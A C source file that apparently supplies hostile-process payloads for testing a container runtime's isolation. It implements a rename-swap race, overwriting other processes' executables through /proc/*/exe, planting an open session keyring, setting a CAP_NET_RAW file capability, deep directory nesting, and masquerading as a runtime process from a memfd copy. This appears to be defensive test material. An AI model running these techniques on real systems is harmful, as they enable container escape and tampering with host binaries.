/* SPDX-License-Identifier: Apache-2.0 */
/* What a hostile process does, inside a container or in a volume that it shares with one. */
#include "payload.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/keyctl.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

/* swap A B: says "ready", and has them change places all the time, as fast as it can, until it is killed. */
int swap_command(const struct words *words)
{
    const char *a = word_or(words, 0, NULL), *b = word_or(words, 1, NULL);
    for (long swaps = 0;; swaps++) {
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0 && errno != ENOENT) {
            print_outcome("swap", a, errno);
            return STOP + 66;
        }
        if (swaps == 1000) {
            printf("ready\n");
            fflush(stdout);
        }
    }
}

#define MAX_SEIZED 512

struct seized {
    int fd;
    ino_t inode;
    char name[256];
};

static bool is_known(const struct seized *all, int count, const struct stat *status)
{
    for (int i = 0; i < count; i++) {
        if (all[i].inode == status->st_ino)
            return true;
    }
    return false;
}

/* The executables of all others, opened while they run. */
static int seize(struct seized *all, int count, ino_t own)
{
    DIR *entries = opendir("/proc");
    for (struct dirent *entry; entries && (entry = readdir(entries)) && count < MAX_SEIZED;) {
        char path[300];
        struct stat status;
        snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
        int fd = entry->d_name[0] >= '1' && entry->d_name[0] <= '9' ? open(path, O_RDONLY | O_CLOEXEC) : -1;
        if (fd < 0)
            continue;
        if (fstat(fd, &status) < 0 || status.st_ino == own || is_known(all, count, &status)) {
            close(fd);
            continue;
        }
        all[count].fd = fd;
        all[count].inode = status.st_ino;
        ssize_t length = readlink(path, all[count].name, sizeof all[count].name - 1);
        all[count].name[length > 0 ? length : 0] = 0;
        printf("seized %s\n", all[count++].name);
        fflush(stdout);
    }
    if (entries)
        closedir(entries);
    return count;
}

/* overwrite: says "ready", seizes the executable of whoever comes, and writes over it as soon as that lets it, until SIGTERM. */
int overwrite_command(const struct words *words)
{
    static struct seized all[MAX_SEIZED];
    struct stat own;
    int count = 0;
    bool last = false;
    (void)words;
    hold_sigterm();
    if (stat("/proc/self/exe", &own) < 0)
        return STOP + 66;
    printf("ready\n");
    fflush(stdout);
    while (!last) {
        last = told_to_end();
        count = seize(all, count, own.st_ino);
        for (int i = 0; i < count; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", all[i].fd);
            int fd = open(path, O_WRONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            if (pwrite(fd, "evil", 4, 0) == 4)
                printf("overwritten %s\n", all[i].name);
            close(fd);
            fflush(stdout);
        }
    }
    return NEXT;
}

/* plant-keyring NAME: a session keyring of that name, open to everybody. */
int plant_keyring_command(const struct words *words)
{
    const char *name = word_or(words, 0, NULL);
    long keyring = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, name, 0, 0, 0);
    if (keyring >= 0 && syscall(SYS_keyctl, KEYCTL_SETPERM, keyring, 0x3f3f3f3f, 0, 0) < 0)
        keyring = -1;
    print_outcome("plant-keyring", name, keyring < 0 ? errno : 0);
    return NEXT;
}

/* inherit PATH: the file, when it is executed, gets CAP_NET_RAW where that is inheritable. */
int inherit_command(const struct words *words)
{
    const char *path = word_or(words, 0, NULL);
    struct vfs_cap_data capabilities = {.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE};
    capabilities.data[0].inheritable = 1u << CAP_NET_RAW;
    int result = setxattr(path, "security.capability", &capabilities, sizeof capabilities, 0);
    print_outcome("inherit", path, result < 0 ? errno : 0);
    return NEXT;
}

/* nest FOLDER COUNT: folders in folders, one below the other. */
int nest_command(const struct words *words)
{
    const char *folder = word_or(words, 0, NULL);
    long count = number_or(words, 1, 100), made = 0;
    int error = chdir(folder) < 0 ? errno : 0;
    while (!error && made < count) {
        if ((mkdir("n", 0755) < 0 && errno != EEXIST) || chdir("n") < 0)
            error = errno;
        else
            made++;
    }
    printf("nested %ld\n", made);
    print_outcome("nest", folder, error);
    return NEXT;
}

/* pretend-to-wait: goes on from a copy in memory that is called as a runtime's, under the name that its process has until start. */
int pretend_to_wait_command(const struct words *words)
{
    (void)words;
    char executable[64] = "";
    struct stat status;
    if (readlink("/proc/self/exe", executable, sizeof executable - 1) > 0 && strncmp(executable, "/memfd:", 7) == 0)
        return prctl(PR_SET_NAME, "jrunc:[created]") < 0 ? STOP + 66 : NEXT;
    int own = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int copy = memfd_create("jrunc-init", MFD_CLOEXEC);
    if (own < 0 || copy < 0 || fstat(own, &status) < 0 ||
        sendfile(copy, own, NULL, (size_t)status.st_size) != (ssize_t)status.st_size)
        return STOP + 66;
    fexecve(copy, program_arguments, environ);
    print_outcome("pretend-to-wait", "fexecve", errno);
    return STOP + 66;
}
